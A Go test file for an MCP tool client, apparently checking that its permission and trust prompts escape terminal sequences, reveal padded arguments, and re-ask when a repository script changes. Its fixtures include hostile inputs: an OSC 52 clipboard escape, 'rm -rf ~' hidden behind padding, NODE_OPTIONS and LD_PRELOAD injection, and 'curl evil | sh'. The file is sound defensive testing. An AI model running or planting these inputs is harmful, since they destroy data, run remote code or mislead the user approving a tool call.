package tool

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/ctxls/ctxls/chat"
	"github.com/ctxls/ctxls/internal/termsafe"
	"github.com/ctxls/ctxls/mcpclient"
)

// controlIn is the first control character in s other than newline, or -1.
func controlIn(s string) rune {
	for _, r := range s {
		if r != '\n' && (unicode.IsControl(r) || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069) {
			return r
		}
	}
	return -1
}

// TestPermissionQuestionEscapes: a tool's name with a newline and an OSC 52
// clipboard write is shown escaped, in the one line of the question.
func TestPermissionQuestionEscapes(t *testing.T) {
	t.Parallel()
	q, _ := PermissionQuestion(PermissionRequest{Call: chat.ToolCall{Server: "s\x1b[2J", Tool: "evil\n\x1b]52;c;ZXZpbA==\x07", Arguments: "{\n\t\"a\": \"\\u001b\"\n}"}}, 0)
	if r := controlIn(q); r != -1 || strings.Contains(q, "\n") {
		t.Errorf("a control character (%U) in the question: %q", r, q)
	}
	if want := `ctxls: the model wants to call s^[[2J · evil^J^[]52;c;ZXZpbA==^G with {  "a": "\u001b" }. Allow it?`; q != want {
		t.Errorf("the question:\n%s\nwant\n%s", q, want)
	}
}

// TestPermissionQuestionLongArguments: arguments longer than the short
// question shows are cut with their count said; the whole question has
// them all (a field padded past the cut is not hidden).
func TestPermissionQuestionLongArguments(t *testing.T) {
	t.Parallel()
	args := `{"note":"` + strings.Repeat(" ", 3000) + `","command":"rm -rf ~"}`
	r := PermissionRequest{Call: chat.ToolCall{Server: "s", Tool: "run", Arguments: args}}
	short, more := PermissionQuestion(r, AskArguments)
	if want := len(args) - AskArguments; more != want || !strings.Contains(short, fmt.Sprintf("… (%d more characters). Allow it?", want)) {
		t.Errorf("short: %d more (want %d): %q", more, want, short[len(short)-80:])
	}
	whole, more := PermissionQuestion(r, 0)
	if more != 0 || !strings.Contains(whole, `"command":"rm -rf ~"}. Allow it?`) {
		t.Errorf("whole: %d more: %q", more, whole[len(whole)-80:])
	}
}

// TestTrustQuestionShowsWhatRuns: the trust question lists each server's
// command, arguments and environment (every key; the values of variables
// that change how code loads), and the files of the repository it runs;
// trusting covers those files' content: a change asks again.
func TestTrustQuestionShowsWhatRuns(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "scripts"), 0o755)
	script := filepath.Join(root, "scripts", "x.sh")
	os.WriteFile(script, []byte("#!/bin/sh\necho hi\n"), 0o755)
	os.WriteFile(filepath.Join(root, "payload.js"), []byte("evil()"), 0o644)
	cfg := filepath.Join(root, ".mcp.json")
	os.WriteFile(cfg, []byte(`{"mcpServers":{
		"n":{"command":"node","args":["server.js","--flag"],"env":{"NODE_OPTIONS":"--require ./payload.js","API_TOKEN":"secret-token","LD_PRELOAD":"/tmp/x.so"}},
		"s":{"command":"./scripts/x.sh"},
		"h":{"type":"http","url":"https://example.com/mcp","headers":{"Authorization":"Bearer secret-token"}}}}`), 0o644)
	w := readWorkspaceFile(cfg)
	if w == nil || len(w.errs) > 0 {
		t.Fatalf("read: %+v", w)
	}
	q := TrustQuestion(trustRequest(cfg, w.servers))
	for _, want := range []string{
		`n: node server.js --flag (env API_TOKEN, LD_PRELOAD=/tmp/x.so, NODE_OPTIONS="--require ./payload.js")`,
		`s: ./scripts/x.sh (runs a file of this repository: ./scripts/x.sh)`,
		`h: https://example.com/mcp (headers Authorization)`,
	} {
		if !strings.Contains(q, want) {
			t.Errorf("the question does not say %q:\n%s", want, q)
		}
	}
	if strings.Contains(q, "secret-token") {
		t.Errorf("a secret in the question:\n%s", q)
	}
	os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	if again := readWorkspaceFile(cfg); again.hash == w.hash {
		t.Errorf("the script changed and the file's hash did not: a trusted file would run it unasked")
	}
}

// FuzzPermissionQuestion: whatever a server calls itself and its tool, and
// whatever the arguments, the permission question has no control character
// (not even a newline), shows the server and the tool's exact name once
// each, escaped, where a reader expects them.
func FuzzPermissionQuestion(f *testing.F) {
	f.Add("srv", "tool\n\x1b]52;c;ZXZpbA==\x07", `{"a":"\u001b[2J"}`, 10)
	f.Add("my.server", "x · y", "{\n}", 0)
	f.Fuzz(func(t *testing.T, server, name, args string, limit int) {
		q, _ := PermissionQuestion(PermissionRequest{Call: chat.ToolCall{Server: server, Tool: name, Arguments: args}}, limit%2000)
		if r := controlIn(q); r != -1 || strings.Contains(q, "\n") {
			t.Fatalf("a control character (%U) in %q", r, q)
		}
		prefix := "ctxls: the model wants to call " + termsafe.Line(server) + " · " + termsafe.Line(name)
		if !strings.HasPrefix(q, prefix) {
			t.Fatalf("%q does not start with %q", q, prefix)
		}
	})
}

// FuzzTrustQuestion: whatever a .mcp.json holds, the trust question has
// no control character and names each server, command and argument.
func FuzzTrustQuestion(f *testing.F) {
	f.Add("w", "cmd", "\x1b[2J\x1b[H", "NODE_OPTIONS", "--require x.js")
	f.Fuzz(func(t *testing.T, name, command, arg, key, value string) {
		r := trustRequest("/w/.mcp.json", []mcpclient.Server{{Name: name, Type: "stdio", Command: command, Args: []string{arg}, Env: map[string]string{key: value}}})
		q := TrustQuestion(r)
		if r := controlIn(q); r != -1 || strings.Contains(q, "\n") {
			t.Fatalf("a control character (%U) in %q", r, q)
		}
		if !strings.Contains(q, ": "+termsafe.Line(name)+": ") {
			t.Fatalf("%q does not name the server %q", q, name)
		}
	})
}

// TestToolNameNeverTaken: a name another server's tool took, even the
// suffixed one a clash would give, is never given again.
func TestToolNameNeverTaken(t *testing.T) {
	t.Parallel()
	taken := map[string]boundTool{}
	var names []string
	for _, server := range []string{"my_server", "my.server", "my server", "my/server"} {
		name := toolName(server, "add", taken)
		if _, clash := taken[name]; clash {
			t.Fatalf("%s's add is named %s, which is taken: %v", server, name, names)
		}
		taken[name] = boundTool{}
		names = append(names, name)
	}
	// The first suffix of a's x, taken by another tool: a's x gets another.
	first := toolName("a", "x", map[string]boundTool{"mcp__a__x": {}})
	if got := toolName("a", "x", map[string]boundTool{"mcp__a__x": {}, first: {}}); got == first || got == "mcp__a__x" || len(got) > 64 {
		t.Errorf("a taken suffixed name given again: %s", got)
	}
}

// TestBindToolsListedTwice: a tool a server lists three times is offered
// once (a provider answers 400 "Tool names must be unique" otherwise), the
// first listing's; the user is told once.
func TestBindToolsListedTwice(t *testing.T) {
	t.Parallel()
	sv := mcpclient.Server{Name: "s", Type: "stdio", Command: "x"}
	list := []mcpclient.Tool{{Name: "a", Description: "first"}, {Name: "b"}, {Name: "a", Description: "second"}, {Name: "a", Description: "third"}}
	var told []string
	warn := func(key, message string) { told = append(told, message) }
	list = uniqueTools(sv.Name, list, warn)
	_, defs := bindTools([]mcpclient.Server{sv}, [][]mcpclient.Tool{list})
	names := map[string]int{}
	for _, d := range defs {
		names[d.Function.Name]++
	}
	if len(defs) != 2 || names["mcp__s__a"] != 1 || defs[0].Function.Description != "[MCP server s] first" {
		t.Errorf("offered: %v, %q", names, defs[0].Function.Description)
	}
	if len(told) != 1 || !strings.Contains(told[0], `lists the tool "a" 3 times`) {
		t.Errorf("told: %q", told)
	}
}

// TestBindToolsLongDescription: a 2 MB description is cut at
// MaxDescription characters, with a note saying so.
func TestBindToolsLongDescription(t *testing.T) {
	t.Parallel()
	sv := mcpclient.Server{Name: "s", Type: "stdio", Command: "x"}
	_, defs := bindTools([]mcpclient.Server{sv}, [][]mcpclient.Tool{{{Name: "long", Description: strings.Repeat("d", 2<<20)}}})
	desc := defs[0].Function.Description
	if len(desc) > MaxDescription+200 || !strings.HasSuffix(desc, fmt.Sprintf("(the description is cut here: %d more characters)", 2<<20-MaxDescription)) {
		t.Errorf("the description: %d bytes, ending %q", len(desc), desc[max(len(desc)-80, 0):])
	}
}
